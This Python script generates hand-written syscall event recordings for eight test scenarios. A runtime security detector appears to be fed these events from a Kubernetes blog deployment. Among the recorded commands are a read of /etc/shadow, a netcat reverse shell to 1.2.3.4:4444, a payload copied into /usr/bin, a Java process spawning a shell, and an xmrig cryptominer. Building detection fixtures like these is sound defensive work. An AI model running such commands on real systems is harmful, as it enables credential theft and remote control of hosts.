# Writes the events.jsonl of each numbered scenario (python3 make_events.py). The streams are
# hand-written recordings of the blog-system deployment in Kestrel's JSON Lines event format.
import json, os
root = os.path.dirname(os.path.abspath(__file__))
T0 = 1732870800_000000000  # 2024-11-29T09:00:00Z

WEB = {"id": "3ad7b26ded6d", "name": "nginx", "image": "nginx:1.25-alpine", "repository": "nginx", "tag": "1.25-alpine",
       "type": "containerd", "pod_uid": "6f1c2a9e-4b7d-4e21-9c3a-0d8e5b7f1a20", "ip": "10.244.1.17"}
WEB_POD = {"uid": "6f1c2a9e-4b7d-4e21-9c3a-0d8e5b7f1a20", "name": "web-7d4b9c6f5-x2kqp", "namespace": "blog-system",
           "labels": {"app": "web", "tier": "frontend"}, "ip": "10.244.1.17", "containers": ["3ad7b26ded6d"]}
WAS = {"id": "b71c0f4e9a12", "name": "was", "image": "registry.example.com/blog/was:2.3.1",
       "repository": "registry.example.com/blog/was", "tag": "2.3.1", "type": "containerd",
       "pod_uid": "0b9d7e31-58c2-4f0a-a6e4-3c1f2d9b8e77", "ip": "10.244.2.9"}
WAS_POD = {"uid": "0b9d7e31-58c2-4f0a-a6e4-3c1f2d9b8e77", "name": "was-5f8c7d9b44-q7m2z", "namespace": "blog-system",
           "labels": {"app": "was", "tier": "backend"}, "ip": "10.244.2.9", "containers": ["b71c0f4e9a12"]}
BUILDKIT = {"id": "5c2d9e7b1f30", "name": "buildkitd", "image": "moby/buildkit:v0.16.0", "repository": "moby/buildkit",
            "tag": "v0.16.0", "type": "containerd", "pod_uid": "c4e8a1f2-7d3b-4a95-b0e6-91f2d5c8a347", "ip": "10.244.3.4"}
BUILDKIT_POD = {"uid": "c4e8a1f2-7d3b-4a95-b0e6-91f2d5c8a347", "name": "buildkitd-0", "namespace": "ci",
                "labels": {"app": "buildkitd"}, "ip": "10.244.3.4", "containers": ["5c2d9e7b1f30"]}

def users():
    return [{"snapshot": {"pid": 1, "ppid": 0, "comm": "systemd", "exe": "/sbin/init", "exepath": "/usr/lib/systemd/systemd",
                          "args": [], "cwd": "/", "uid": 0, "gid": 0, "start_ts": T0 - 86400_000000000}},
            {"user": {"uid": 0, "name": "root", "home": "/root", "shell": "/bin/sh"}},
            {"user": {"uid": 101, "name": "nginx", "home": "/var/cache/nginx", "shell": "/sbin/nologin"}},
            {"user": {"uid": 1000, "name": "spring", "home": "/home/spring", "shell": "/bin/sh"}},
            {"group": {"gid": 0, "name": "root"}}]

def host_runtime(container_id):
    """containerd-shim and a `runc exec` on the node: the parents of a kubectl exec."""
    return [{"snapshot": {"pid": 3100, "ppid": 1, "comm": "containerd-shim", "exe": "/usr/bin/containerd-shim-runc-v2",
                          "args": ["-namespace", "k8s.io", "-id", container_id, "-address", "/run/containerd/containerd.sock"],
                          "cwd": "/", "uid": 0, "gid": 0, "start_ts": T0 - 3600_000000000}},
            {"snapshot": {"pid": 3200, "ppid": 3100, "comm": "runc", "exe": "runc", "exepath": "/usr/bin/runc",
                          "args": ["--root", "/run/containerd/runc/k8s.io", "exec", "--process", "/tmp/runc-process", container_id],
                          "cwd": "/", "uid": 0, "gid": 0, "start_ts": T0 - 1_000000}}]

class Stream:
    def __init__(self, t):
        self.t = t
        self.lines = []
    def add(self, obj):
        # Records carry the stream's clock too, so metadata is as fresh as the events that follow.
        self.lines.append(dict({"ts": self.t}, **obj))
    def ev(self, type_, tid, ret, args, pid=None):
        self.t += 1_250_000
        self.lines.append({"ts": self.t, "type": type_, "tid": tid, "pid": pid or tid, "ret": ret, "args": args})
    def exec_from_runc(self, child, container, filename, args, tty=0, uid=0, flags="EXE_LOWER_LAYER", comm=None):
        self.ev("clone", 3200, child, {"exe": "runc", "args": [], "flags": "CLONE_PARENT_SETTID|SIGCHLD"})
        a = {"filename": filename, "exe": filename.split("/")[-1] if comm is None else comm, "args": args, "cwd": "/",
             "tty": tty, "uid": uid, "gid": 0, "container_id": container["id"]}
        if flags:
            a["flags"] = flags
        self.ev("execve", child, 0, a)
    def write(self, name, header):
        path = os.path.join(root, name, "events.jsonl")
        with open(path, "w") as f:
            for h in header:
                f.write("# " + h + "\n")
            for l in self.lines:
                f.write(json.dumps(l, separators=(", ", ": ")) + "\n")

def web_stream(t):
    s = Stream(t)
    for r in users(): s.add(r)
    s.add({"container": WEB}); s.add({"pod": WEB_POD})
    for r in host_runtime(WEB["id"]): s.add(r)
    s.add({"snapshot": {"pid": 3150, "ppid": 3100, "comm": "nginx", "exe": "nginx", "exepath": "/usr/sbin/nginx",
                        "args": ["-g", "daemon off;"], "cwd": "/", "uid": 0, "gid": 0, "container_id": WEB["id"],
                        "start_ts": T0 - 3500_000000000}})
    return s

# 01: cat /etc/shadow
s = web_stream(T0)
s.exec_from_runc(3205, WEB, "/bin/cat", ["/etc/shadow"])
s.ev("openat", 3205, 3, {"dirfd": -100, "name": "/etc/shadow", "flags": "O_RDONLY|O_LARGEFILE"})
s.ev("close", 3205, 0, {"fd": 3})
s.ev("procexit", 3205, 0, {"status": 0})
s.write("01-sensitive-file-read", ["kubectl exec web-7d4b9c6f5-x2kqp -n blog-system -- cat /etc/shadow",
        "Recorded as Kestrel events (see the event format): node processes, the web pod's container and pod records, then the syscalls."])

# 02: apk update
s = web_stream(T0 + 60_000000000)
s.exec_from_runc(3210, WEB, "/sbin/apk", ["update"])
s.ev("openat", 3210, 3, {"dirfd": -100, "name": "/lib/apk/db/lock", "flags": "O_RDWR|O_CREAT"})
s.ev("openat", 3210, 4, {"dirfd": -100, "name": "/etc/apk/repositories", "flags": "O_RDONLY"})
s.ev("procexit", 3210, 0, {"status": 0})
s.write("02-package-manager", ["kubectl exec web-7d4b9c6f5-x2kqp -n blog-system -- apk update"])

# 03: interactive shell with a terminal
s = web_stream(T0 + 120_000000000)
s.exec_from_runc(3220, WEB, "/bin/bash", [], tty=34816)
s.ev("openat", 3220, 3, {"dirfd": -100, "name": "/root/.bash_history", "flags": "O_RDONLY"})
s.write("03-terminal-shell", ["kubectl exec -it web-7d4b9c6f5-x2kqp -n blog-system -- /bin/bash"])

# 04: sh -c "echo test" without a terminal
s = web_stream(T0 + 180_000000000)
s.exec_from_runc(3230, WEB, "/bin/sh", ["-c", "echo test"], tty=0)
s.ev("procexit", 3230, 0, {"status": 0})
s.write("04-shell-without-tty", ["kubectl exec web-7d4b9c6f5-x2kqp -n blog-system -- sh -c \"echo test\"  (no -it: no terminal)"])

# 05: java spawns sh in the was pod
s = Stream(T0 + 240_000000000)
for r in users(): s.add(r)
s.add({"container": WAS}); s.add({"pod": WAS_POD})
s.add({"snapshot": {"pid": 4000, "ppid": 1, "comm": "containerd-shim", "exe": "/usr/bin/containerd-shim-runc-v2",
                    "args": ["-namespace", "k8s.io", "-id", WAS["id"]], "cwd": "/", "uid": 0, "gid": 0}})
s.add({"snapshot": {"pid": 4100, "ppid": 4000, "comm": "java", "exe": "java", "exepath": "/opt/java/openjdk/bin/java",
                    "args": ["-XX:MaxRAMPercentage=75", "-jar", "/app/blog-was.jar"], "cwd": "/app", "uid": 1000,
                    "gid": 1000, "container_id": WAS["id"], "start_ts": T0 - 7200_000000000}})
s.ev("clone", 4100, 4150, {"exe": "java", "args": ["-jar", "/app/blog-was.jar"], "flags": "CLONE_VM|CLONE_VFORK|SIGCHLD"})
s.ev("execve", 4150, 0, {"filename": "/bin/sh", "exe": "sh", "args": ["-c", "id"], "cwd": "/app", "tty": 0,
                         "uid": 1000, "gid": 1000, "container_id": WAS["id"], "flags": "EXE_LOWER_LAYER"})
s.ev("procexit", 4150, 0, {"status": 0})
s.write("05-java-spawns-shell", ["The Spring Boot process of was-5f8c7d9b44-q7m2z runs sh -c id (remote code execution, as with Log4Shell)"])

# 06: write to /usr/bin/
s = web_stream(T0 + 300_000000000)
s.exec_from_runc(3240, WEB, "/bin/cp", ["/tmp/payload", "/usr/bin/kube-helper"])
s.ev("openat", 3240, 3, {"dirfd": -100, "name": "/tmp/payload", "flags": "O_RDONLY"})
s.ev("openat", 3240, 4, {"dirfd": -100, "name": "/usr/bin/kube-helper", "flags": "O_WRONLY|O_CREAT|O_TRUNC", "mode": "0755"})
s.ev("procexit", 3240, 0, {"status": 0})
s.write("06-write-binary-dir", ["kubectl exec web-7d4b9c6f5-x2kqp -n blog-system -- cp /tmp/payload /usr/bin/kube-helper"])

# 07: nc -e /bin/sh 1.2.3.4 4444
s = web_stream(T0 + 360_000000000)
s.exec_from_runc(3250, WEB, "/usr/bin/nc", ["-e", "/bin/sh", "1.2.3.4", "4444"])
s.ev("socket", 3250, 3, {"domain": "AF_INET", "type": 1, "proto": 0})
s.ev("connect", 3250, 0, {"fd": 3, "tuple": "10.244.1.17:40312->1.2.3.4:4444"})
s.write("07-netcat-reverse-shell", ["kubectl exec web-7d4b9c6f5-x2kqp -n blog-system -- nc -e /bin/sh 1.2.3.4 4444"])

# 08: BuildKit drops and runs /check (silenced), a web pod runs a dropped miner (alert)
s = Stream(T0 + 420_000000000)
for r in users(): s.add(r)
s.add({"container": BUILDKIT}); s.add({"pod": BUILDKIT_POD})
s.add({"container": WEB}); s.add({"pod": WEB_POD})
s.add({"snapshot": {"pid": 5000, "ppid": 1, "comm": "containerd-shim", "exe": "/usr/bin/containerd-shim-runc-v2",
                    "args": ["-namespace", "k8s.io", "-id", BUILDKIT["id"]], "cwd": "/", "uid": 0, "gid": 0}})
s.add({"snapshot": {"pid": 5100, "ppid": 5000, "comm": "buildkitd", "exe": "buildkitd", "exepath": "/usr/bin/buildkitd",
                    "args": ["--addr", "unix:///run/buildkit/buildkitd.sock"], "cwd": "/", "uid": 0, "gid": 0,
                    "container_id": BUILDKIT["id"], "start_ts": T0}})
s.ev("openat", 5100, 7, {"dirfd": -100, "name": "/check", "flags": "O_WRONLY|O_CREAT|O_TRUNC", "mode": "0755"})
s.ev("close", 5100, 0, {"fd": 7})
s.ev("clone", 5100, 5150, {"exe": "buildkitd", "args": [], "flags": "SIGCHLD"})
s.ev("execve", 5150, 0, {"filename": "/check", "exe": "/check", "args": [], "cwd": "/", "tty": 0, "uid": 0, "gid": 0,
                         "container_id": BUILDKIT["id"], "flags": "EXE_WRITABLE|EXE_UPPER_LAYER"})
s.ev("procexit", 5150, 0, {"status": 0})
for r in host_runtime(WEB["id"]): s.add(r)
s.exec_from_runc(3260, WEB, "/tmp/xmrig", ["--donate-level", "1", "-o", "pool.example.net:3333"],
                 flags="EXE_WRITABLE|EXE_UPPER_LAYER", comm="xmrig")
s.write("08-buildkit-drop-execute", ["A BuildKit pod (namespace ci) writes and runs /check: expected, silenced by the user's exception.",
        "Then a web pod of blog-system runs /tmp/xmrig, which is not part of its image: alert."])
